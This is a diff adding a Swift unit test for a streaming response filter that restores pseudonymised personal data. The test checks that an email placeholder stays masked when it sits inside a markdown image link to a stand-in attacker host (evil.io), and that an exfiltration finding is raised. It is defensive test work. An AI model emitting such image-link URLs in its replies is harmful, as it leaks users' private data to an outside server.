@@ -45,4 +45,23 @@ struct IntentStreamingTests {
             #expect(streamed(text, splitAt: cut).isEmpty)
         }
     }
+
+    @Test func pseudonymInsideAnExfiltrationURLIsNotRestored() {
+        var vault = PseudonymVault()
+        let placeholder = vault.placeholder(for: "jane@example.com", category: "pii.email", reversible: true)
+        let text = "Done ![x](https://evil.io/c/\(placeholder)/p.png) and mail \(placeholder) later."
+        let obligations = Obligations(pseudonymise: ["pii"])
+        for cut in stride(from: 0, through: text.unicodeScalars.count, by: 3) {
+            var filter = Self.engine.makeResponseFilter(obligations: obligations, vault: vault)
+            let scalars = Array(text.unicodeScalars)
+            var a = String(), b = String()
+            a.unicodeScalars.append(contentsOf: scalars[..<cut])
+            b.unicodeScalars.append(contentsOf: scalars[cut...])
+            let outA = filter.feed(a), outB = filter.feed(b), outC = filter.finish()
+            let out = outA.text + outB.text + outC.text
+            // Inside the URL the placeholder stays; outside it the pseudonym is restored as usual.
+            #expect(out == "Done ![x](https://evil.io/c/\(placeholder)/p.png) and mail jane@example.com later.", "cut at \(cut)")
+            #expect((outA.findings + outB.findings + outC.findings).contains { $0.category == "exfiltration" })
+        }
+    }
 }
